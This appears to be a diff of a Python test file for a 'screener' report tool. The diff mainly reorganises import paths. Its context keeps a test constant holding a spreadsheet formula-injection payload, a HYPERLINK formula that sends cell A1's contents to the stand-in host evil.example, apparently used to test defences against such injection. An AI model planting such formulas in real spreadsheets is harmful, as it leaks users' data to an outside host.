@@ -8,10 +8,10 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from screener.core import decisions, report, runs
-from screener.core.entries import EntityType, Entry, ParsedList
-from screener.core.report import ReportError
-from screener.core.store import Store
+from screener.core.lists.entries import EntityType, Entry, ParsedList
+from screener.core.record import decisions, report, runs
+from screener.core.record.report import ReportError
+from screener.core.record.store import Store
 
 INJECTED = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
 
